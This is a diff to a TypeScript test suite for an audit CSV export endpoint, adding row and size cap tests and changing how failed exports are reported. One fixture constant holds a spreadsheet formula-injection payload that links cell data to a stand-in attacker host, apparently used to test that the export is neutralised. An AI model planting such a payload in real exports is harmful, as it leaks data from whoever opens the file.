@@ -25,8 +25,11 @@ function shortPages(inner: AccessRequestRepository, size: number): AccessRequest
 const RANGE = 'from=2030-01-01T00:00:00Z&to=2030-01-02T00:00:00Z';
 const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") for the deploy';
 
-async function seeded() {
-  const w = apiWorld({ repository: shortPages(new InMemoryAccessRequestRepository(), 3) });
+async function seeded(options: Parameters<typeof apiWorld>[0] = {}) {
+  const w = apiWorld({
+    repository: shortPages(new InMemoryAccessRequestRepository(), 3),
+    ...options,
+  });
   const bodies = [
     { accountId: '111111111111', roleName: 'PowerUser', justification: INJECTION },
     {
@@ -146,7 +149,36 @@ describe('GET /audit/requests.csv', () => {
     expect(response.headers.get('content-type')).toBe('application/problem+json');
   });
 
-  it('marks an export cut short by a failing store instead of ending it quietly', async () => {
+  it('answers 422 EXPORT_TOO_LARGE, not a cut-off file, past the row cap', async () => {
+    const exact = await seeded({ auditExportLimits: { maxRows: 9, maxBytes: 1_000_000 } });
+    const whole = await exact.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
+    expect(whole.status).toBe(200);
+    expect(parseCsv(await whole.text())).toHaveLength(10);
+
+    const w = await seeded({ auditExportLimits: { maxRows: 8, maxBytes: 1_000_000 } });
+    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
+    expect(response.status).toBe(422);
+    expect(response.headers.get('content-type')).toBe('application/problem+json');
+    const problem = (await response.json()) as { code: string; detail: string };
+    expect(problem.code).toBe('EXPORT_TOO_LARGE');
+    expect(problem.detail).toMatch(/narrow the date range or filters/);
+    // A narrower filter fits.
+    const narrower = await w.call(
+      audrey,
+      'GET',
+      `/audit/requests.csv?${RANGE}&requester=bob@example.com`,
+    );
+    expect(narrower.status).toBe(200);
+  });
+
+  it('answers 422 EXPORT_TOO_LARGE past the size cap, counting the JSON-escaped size', async () => {
+    const w = await seeded({ auditExportLimits: { maxRows: 1000, maxBytes: 1000 } });
+    const response = await w.call(audrey, 'GET', `/audit/requests.csv?${RANGE}`);
+    expect(response.status).toBe(422);
+    expect(((await response.json()) as { code: string }).code).toBe('EXPORT_TOO_LARGE');
+  });
+
+  it('answers a problem, not a cut-off file, when the store fails on a later page', async () => {
     const inner = new InMemoryAccessRequestRepository();
     let calls = 0;
     const failing = new Proxy(shortPages(inner, 2), {
@@ -173,15 +205,14 @@ describe('GET /audit/requests.csv', () => {
         ).json(),
       );
     }
-    const text = await (
-      await w.call(
-        audrey,
-        'GET',
-        `/audit/requests.csv?${RANGE.replace('2030-01-01T00', '2029-12-31T00')}`,
-      )
-    ).text();
-    const rows = parseCsv(text);
-    expect(rows.at(-1)?.[0]).toBe('EXPORT INCOMPLETE');
-    expect(text).not.toContain('ProvisionedThroughput');
+    const response = await w.call(
+      audrey,
+      'GET',
+      `/audit/requests.csv?${RANGE.replace('2030-01-01T00', '2029-12-31T00')}`,
+    );
+    expect(calls).toBe(2);
+    expect(response.status).toBe(500);
+    expect(response.headers.get('content-type')).toBe('application/problem+json');
+    expect(await response.text()).not.toContain('ProvisionedThroughput');
   });
 });
